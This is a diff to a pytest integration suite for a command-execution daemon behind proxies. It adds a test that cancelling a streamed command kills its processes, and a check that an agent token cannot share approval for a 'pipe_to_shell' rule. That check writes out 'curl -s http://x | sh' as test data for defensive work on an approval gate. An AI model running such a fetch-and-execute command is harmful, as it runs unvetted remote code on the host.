@@ -305,6 +305,25 @@ def test_quiet_commands_outlive_the_proxy_idle_timeout(fleet, proxy):
             c.run(task, f"sleep {quiet}", rpc_timeout=60)
 
 
+@pytest.mark.parametrize("proxy", PROXIES)
+def test_cancelling_through_the_proxy_kills_the_command(fleet, proxy):
+    """With heartbeats flowing: the client cancels after the first heartbeat; the command's tree is
+    killed on the owner (the proxy passes the cancel on, the heartbeat layer lets go of the stream)."""
+    from tests.daemon import count_processes, wait_for
+
+    marker = f"fleet-cancel-{proxy}-marker"
+    task = fleet.task_for("executor-1", f"cancel-{proxy}")
+    with _client(fleet.proxies[proxy].target) as c:
+        stream = c.exec(task, f"exec -a {marker} sleep 60", rpc_timeout=120)
+        for event in stream:
+            if event.HasField("heartbeat"):
+                break
+        assert count_processes(marker) == 1
+        stream.close()  # cancels the call
+        assert wait_for(lambda: count_processes(marker) == 0, 20), "the command outlived its cancelled call"
+        assert c.run(task, "echo still-here").stdout == b"still-here\n"  # the task's shell lives on
+
+
 def test_an_always_approval_given_once_holds_on_every_member(fleet):
     proxy = fleet.proxies["nginx"].target
     tasks = {m: fleet.task_for(m, "always") for m in infra.MEMBERS}
@@ -336,7 +355,12 @@ def test_an_always_approval_given_once_holds_on_every_member(fleet):
             events = list(c.exec(task, command))
             assert not any(e.WhichOneof("event") == "approval_required" for e in events), member
             assert b"".join(e.stdout for e in events) == b"pushed\n"
-        # sharing never grants what a member's own gate would not ask for
+        # sharing needs the approve role, and never grants what a member's own gate would not ask for
+        with pytest.raises(grpc.RpcError) as info, _client(fleet.targets["executor-0"]) as agent:
+            agent.stub.ShareApproval(pb.ShareApprovalRequest(backend="local", rule="pipe_to_shell",
+                                                             command="curl -s http://x | sh"),
+                                     metadata=[("authorization", f"Bearer {infra.AGENT}")], timeout=10)
+        assert info.value.code() == grpc.StatusCode.PERMISSION_DENIED
         with Client(fleet.targets["executor-0"], token=infra.APPROVER) as a:
             with pytest.raises(grpc.RpcError) as info:
                 a.stub.ShareApproval(pb.ShareApprovalRequest(backend="local", rule="git_force_push", command="ls"),
